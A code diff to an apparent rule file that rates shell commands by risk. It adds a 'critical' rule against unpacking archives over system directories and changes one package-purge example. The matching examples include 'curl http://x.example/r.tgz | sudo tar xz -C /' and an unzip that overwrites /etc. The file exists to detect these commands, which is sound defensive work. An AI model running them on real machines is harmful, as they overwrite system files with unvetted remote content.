@@ -18,7 +18,7 @@ export const packageRules = {
   'package-purge': spec(
     'high',
     'Removes packages together with their settings',
-    ['sudo apt autoremove --purge -y'],
+    ['sudo apt purge nginx'],
     ['apt list'],
   ),
   'package-remove-many': spec(
@@ -153,6 +153,12 @@ export const packageRules = {
 } as const;
 
 export const archiveRules = {
+  'extract-over-system': spec(
+    'critical',
+    'Unpacks over the system what nobody has read, or replaces there whatever has the same name',
+    ['sudo unzip -o backup.zip -d /etc', 'curl http://x.example/r.tgz | sudo tar xz -C /'],
+    ['sudo tar xzf a.tgz -C /opt/app', 'unzip -o a.zip'],
+  ),
   'extract-system': spec(
     'high',
     'Unpacks into a directory of the system',
